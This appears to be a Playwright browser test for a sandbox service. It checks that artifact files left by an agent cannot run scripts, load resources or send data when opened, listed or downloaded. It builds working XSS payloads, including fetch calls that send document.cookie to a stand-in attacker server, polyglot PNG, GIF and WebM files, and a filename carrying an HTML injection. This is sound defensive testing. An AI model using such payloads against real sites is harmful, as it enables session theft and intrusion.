/** Files that an agent leaves as attackers of a person's browser: nothing in them acts in the origin of the service. */
import { assert, layer } from "@effect/vitest"
import { Effect } from "effect"
import { existsSync, readFileSync } from "node:fs"
import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import type { Page } from "playwright-core"
import { Browser, faultsOf, linkFor, signIn } from "./Browser.ts"
import * as Shop from "./Shop.ts"

/** A server of an attacker, and the addresses that were asked of it. */
const listener = Effect.acquireRelease(
  Effect.promise(() =>
    new Promise<{ readonly url: string; readonly asked: Array<string>; close(): void }>((resolve) => {
      const asked: Array<string> = []
      const server = createServer((request, response) => {
        asked.push(request.url ?? "")
        response.end()
      })
      server.listen(0, "127.0.0.1", () => {
        resolve({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, close: () => server.close() })
      })
    })
  ),
  (server) => Effect.sync(() => server.close())
)

/** Tells the attacker's server in every way that a document has, and marks the page that runs it. */
const attackOf = (url: string) => {
  const script = `fetch("${url}/fetch?"+document.cookie);new Image().src="${url}/script";` +
    `top.attacked=1;location="${url}/location"`
  const html = `<!doctype html><html><body onload='${script}'><img src="${url}/img"><iframe src="/settings"></iframe>` +
    `<link rel="stylesheet" href="${url}/css"><script>${script}</script></body></html>`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><image href="${url}/image"/><script>${script}</script></svg>`
  const [png, gif] = ["\x89PNG\r\n\x1a\n", "GIF89a/*"]
  return {
    "page.html": html,
    "page.txt": html,
    "drawing.svg": svg,
    "drawing.png": svg,
    // Polyglots: an image by the first bytes, a document or a script by what follows.
    "polyglot.png": png + html,
    "polyglot.gif": `${gif}*/=1;${script}`,
    "video.webm": `\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm${html}`,
    "\"><img src=x onerror=top.attacked=1>.txt": `text </code></td><script>${script}</script>`
  }
}

const quoted = (text: string) => `'${text.replaceAll("'", "'\\''")}'`

/** The script of an agent that leaves these files. No text of theirs ends the directive. */
const leave = (files: Readonly<Record<string, string>>) =>
  Object.entries(files)
    .map(([name, content]) => `echo ${Buffer.from(content, "latin1").toString("base64")} | base64 -d > ${quoted(name)}`)
    .join("; ")

/** Opens the address. The file of a download; `null`: the browser shows it. */
const open = async (page: Page, address: string) => {
  const download = page.waitForEvent("download", { timeout: 5_000 }).catch(() => null)
  const isShown = await page.goto(address, { waitUntil: "domcontentloaded" }).then(() => true, (error: Error) => {
    assert.match(error.message, /Download is starting|ERR_ABORTED/u)
    return false
  })
  return isShown ? null : await (await download)?.path() ?? null
}

layer(Shop.layer(), { excludeTestServices: true })("artifacts in a browser", (it) => {
  it.effect(
    "run nothing, load nothing and send nothing, however they are opened, and the page that lists them is accessible",
    () =>
      Effect.gen(function*() {
        const { visit } = yield* Browser
        const { create } = yield* Shop.api
        const attacker = yield* listener
        const files = attackOf(attacker.url)
        const link = yield* linkFor()
        yield* visit(async (page) => {
          await signIn(page, link)
          const id = await create(`[[shell cd "$SLIPWAY_ARTIFACTS" && ${leave(files)}]]`)
          await Shop.loadsUntil(page, `/sandboxes/${id}`, "Checkpoint 1")
          const untouched = async (where: string) => {
            assert.deepStrictEqual(attacker.asked, [], where)
            assert.isFalse(await page.evaluate(() => "attacked" in globalThis), where)
          }
          for (const address of [`/sandboxes/${id}?view=artifacts`, `/sandboxes/${id}/artifacts`]) {
            await page.goto(address)
            await page.locator(".artifacts img").first().waitFor({ state: "attached" })
            await untouched(address)
            assert.strictEqual(await page.locator(".artifacts li").count(), Object.keys(files).length)
            assert.deepStrictEqual(await faultsOf(page, address), [])
          }
          for (const [name, content] of Object.entries(files)) {
            const query = new URLSearchParams({ name })
            for (const place of ["artifacts", "artifacts/media"]) {
              await open(page, `/sandboxes/${id}/${place}?${query}`)
              await untouched(`${place} ${name}`)
            }
            const saved = await open(page, `/sandboxes/${id}/artifacts/download?${query}`)
            assert.isTrue(saved !== null && existsSync(saved), name)
            assert.strictEqual(readFileSync(saved ?? "", "latin1"), content)
            await untouched(`download ${name}`)
          }
        }, {
          options: { acceptDownloads: true },
          refused: [404],
          expected: /Content Security Policy directive|^Blocked script execution in /u
        })
      }),
    15 * 60_000
  )
})
